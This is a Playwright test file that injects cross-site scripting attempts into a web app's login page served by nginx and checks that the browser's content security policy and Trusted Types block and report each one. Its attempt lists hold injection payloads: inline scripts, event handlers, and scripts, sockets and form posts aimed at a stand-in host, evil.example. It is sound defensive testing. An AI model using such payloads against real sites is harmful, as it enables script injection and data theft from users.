import { expect, test, type Page } from '@playwright/test'
import { paths } from '@/paths'
import { NGINX_URL } from '../../e2e/playwright.config'

/**
 * Tests the page as nginx sends it, with injected content. That content must run no code, load
 * nothing and send nothing, and the browser must report each attempt. Hosts that a build allows are
 * tested in src/build/headers.test.ts.
 */

const EVIL_ORIGIN = 'https://evil.example'
interface Violation {
  directive: string
  /** The blocked address, or a kind of content such as "inline", as the browser reports it. */
  blocked: string
}

type Attempt = Violation & { name: string }

const createAttempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })

const MARKUP_ATTEMPTS: readonly Attempt[] = [
  createAttempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
  createAttempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
  createAttempt(`<script src="${EVIL_ORIGIN}/a.js"></script>`, 'script-src-elem', `${EVIL_ORIGIN}/a.js`),
  createAttempt(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
  createAttempt(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
  createAttempt(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
  createAttempt(`<link rel="stylesheet" href="${EVIL_ORIGIN}/a.css">`, 'style-src-elem', `${EVIL_ORIGIN}/a.css`),
  createAttempt(`<object data="${EVIL_ORIGIN}/o.svg"></object>`, 'object-src', EVIL_ORIGIN),
  createAttempt(`<base href="${EVIL_ORIGIN}/">`, 'base-uri', `${EVIL_ORIGIN}/`),
  createAttempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
  createAttempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
]

/**
 * Returns an attempt whose `code` passes a string to a function that requires a trusted value.
 * Browsers decide which functions require a trusted value, so only a few are tried.
 */
const createUntrustedAttempt = (code: string) => createAttempt(code, 'require-trusted-types-for', 'trusted-types-sink')

/** Attempts of injected code that already runs. Each `name` is the code of the attempt. */
const CODE_ATTEMPTS: readonly Attempt[] = [
  createAttempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
  createAttempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
  createAttempt(
    `new FontFace('x', 'url(${EVIL_ORIGIN}/f.woff2)').load().catch(() => 0)`,
    'font-src',
    `${EVIL_ORIGIN}/f.woff2`,
  ),
  createAttempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
  createAttempt(`import('${EVIL_ORIGIN}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL_ORIGIN}/m.js`),
  createAttempt(
    `Object.assign(make('form'), { action: '${EVIL_ORIGIN}/form', method: 'post' }).submit()`,
    'form-action',
    `${EVIL_ORIGIN}/form`,
  ),
  createAttempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
  createUntrustedAttempt(`make('div').innerHTML = '<b>x</b>'`),
  createUntrustedAttempt(`eval('ran.push("eval")')`),
  createUntrustedAttempt(`make('script').src = '${EVIL_ORIGIN}/s.js'`),
  createUntrustedAttempt(`new Worker('${EVIL_ORIGIN}/w.js')`),
  createAttempt(
    `Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`,
    'script-src-elem',
    'inline',
  ),
]

declare global {
  var ran: string[]
  var reportedViolations: Violation[]
  var make: (tag: string) => HTMLElement
}

/** Adds `markup` to the body of Log-in. Returns the addresses of all requests to other hosts. */
async function openWith(page: Page, markup: string): Promise<string[]> {
  const outsideRequests: string[] = []
  await page.route(/^(?:https|http:\/\/evil)/, (route) => {
    outsideRequests.push(route.request().url())
    return route.fulfill({ body: `ran.push('from afar')`, contentType: 'text/javascript' })
  })
  await page.addInitScript(() => {
    localStorage.setItem('lang', 'en_us')
    globalThis.ran = []
    globalThis.reportedViolations = []
    globalThis.make = (tag) => document.body.appendChild(document.createElement(tag))
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, disposition }) => {
      if (disposition === 'enforce') reportedViolations.push({ directive: effectiveDirective, blocked: blockedURI })
    })
  })
  await page.route(`${NGINX_URL}${paths.login()}`, async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    // Drops the headers of the compressed body, because the new body is uncompressed.
    const { 'content-encoding': _encoding, 'content-length': _length, ...headers } = response.headers()
    return route.fulfill({ response, headers, body: html.replace('</body>', () => `${markup}</body>`) })
  })
  await page.goto(`${NGINX_URL}${paths.login()}`)
  await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
  await page.waitForFunction(() => performance.getEntriesByName('interactive').length > 0)
  return outsideRequests
}

async function expectNoEffect(page: Page, outsideRequests: readonly string[]): Promise<void> {
  const readEffects = () => [...ran, getComputedStyle(document.body).getPropertyValue('--evil')]
  expect(await page.evaluate(readEffects)).toEqual([''])
  expect(outsideRequests).toEqual([])
}

test.use({ serviceWorkers: 'allow', contextOptions: { reducedMotion: 'reduce' } })

test('injected markup is blocked and reported, and the app still works', async ({ page }) => {
  const outsideRequests = await openWith(page, MARKUP_ATTEMPTS.map(({ name }) => name).join('\n'))
  const expectedReports = MARKUP_ATTEMPTS.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
  // The policy in the page and the policy in the header both report each attempt. Nothing else is
  // reported.
  const readReported = async () => {
    const violations = await page.evaluate(() => globalThis.reportedViolations)
    return violations.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
  }
  await expect.poll(async () => [...new Set(await readReported())]).toEqual([...new Set(expectedReports)])
  expect(await readReported()).toEqual(expectedReports.flatMap((violation) => [violation, violation]))
  await expectNoEffect(page, outsideRequests)
  await page.getByLabel('Username').fill('wulan_r')
  await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
})

test('attempts of injected code that already runs are blocked and reported', async ({ page }) => {
  const outsideRequests = await openWith(page, '')
  expect(await page.evaluate(() => reportedViolations)).toEqual([])
  for (const { name, directive, blocked } of CODE_ATTEMPTS)
    await test.step(name, async () => {
      await page.evaluate(() => (reportedViolations.length = 0))
      // The code runs in a task of the page, because code that the debugger runs may do more.
      await page.evaluate(`setTimeout(() => { ${name} })`)
      await expect
        .poll(() =>
          page.evaluate(() => reportedViolations.map((violation) => `${violation.directive} ${violation.blocked}`)),
        )
        .toContain(`${directive} ${blocked}`)
    })
  await expectNoEffect(page, outsideRequests)
  expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
})
